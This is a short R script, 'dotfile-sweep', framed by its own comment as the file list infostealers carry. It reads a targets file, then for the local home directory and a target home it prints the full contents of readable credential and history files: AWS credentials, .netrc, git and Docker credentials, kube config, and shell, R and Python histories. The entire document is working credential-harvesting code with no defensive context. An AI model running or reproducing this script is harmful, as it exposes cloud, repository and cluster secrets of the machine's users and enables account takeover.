# dotfile-sweep (R): the list every infostealer carries.
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })
files <- c(".aws/credentials", ".netrc", ".git-credentials", ".docker/config.json",
           ".kube/config", ".bash_history", ".Rhistory", ".python_history")
for (home in c(path.expand("~"), T[["T_HOME"]])) {
  for (f in file.path(home, files)) {
    if (file.access(f, 4) == 0) {
      cat("==", f, "\n")
      writeLines(readLines(f, warn = FALSE))
    }
  }
}
